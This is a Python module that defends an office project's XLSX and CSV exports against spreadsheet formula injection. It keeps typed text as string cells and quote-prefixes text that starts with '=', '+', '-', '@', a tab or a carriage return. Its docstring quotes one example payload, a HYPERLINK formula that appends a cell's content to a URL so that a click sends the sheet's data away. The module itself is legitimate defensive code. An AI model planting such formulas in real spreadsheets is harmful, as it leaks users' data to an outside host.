"""What the office's spreadsheets get from people's text: text, never a formula.

A progress report, a task, a unit's or a plan's name is whatever someone typed or an imported annex held, and the
office opens the exports in Excel or WPS. There, a cell that starts with ``=`` (and in a CSV also ``+``, ``-``,
``@``, a tab or a carriage return) is read as a formula: ``=HYPERLINK("http://…?"&A1,"点击")`` would send the
sheet's content away at a click. Every XLSX and CSV the project writes goes through this module:

- ``xlsx_append`` writes each text as a string cell, whatever it starts with (openpyxl would otherwise turn a text
  starting with ``=`` into a formula and ``#N/A`` into an error); numbers and dates keep their types;
- ``csv_bytes`` puts a single quote before a text that a spreadsheet would read as a formula (OWASP's advice for
  CSV injection), and writes the UTF-8 BOM that Excel on Chinese Windows needs.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from openpyxl.worksheet.worksheet import Worksheet

# The first characters that make a spreadsheet read a CSV cell as a formula (or, for tab and CR, that hide one).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value: object) -> object:
    """A CSV cell: a text a spreadsheet would read as a formula gets a ``'`` in front, which Excel and WPS show as
    text; numbers (typed as numbers, not text) and everything else stay as they are."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_bytes(rows: Iterable[Sequence[object]]) -> bytes:
    """Rows as CSV in UTF-8 with a BOM (so that Excel on Chinese Windows reads it), every cell through
    ``csv_cell``. ``None`` is an empty cell."""
    out = io.StringIO(newline="")
    writer = csv.writer(out)
    for row in rows:
        writer.writerow([csv_cell(value) for value in row])
    return ("\ufeff" + out.getvalue()).encode("utf-8")


def xlsx_cell(sheet: Worksheet, value: object) -> Any:
    """A cell of ``sheet`` holding ``value``: a text is a string cell whatever it starts with (characters XML cannot
    carry, which openpyxl refuses, are dropped); numbers, dates and empty cells keep openpyxl's types."""
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell

    if isinstance(value, str):
        value = ILLEGAL_CHARACTERS_RE.sub("", value)
    cell = Cell(sheet, value=value)
    if isinstance(value, str):
        cell.data_type = "s"  # openpyxl made "=…" a formula and "#N/A" an error: text it is
    return cell


def xlsx_append(sheet: Worksheet, values: Iterable[object]) -> None:
    """Append a row to ``sheet``, every text in it written as text (see ``xlsx_cell``)."""
    sheet.append([xlsx_cell(sheet, value) for value in values])
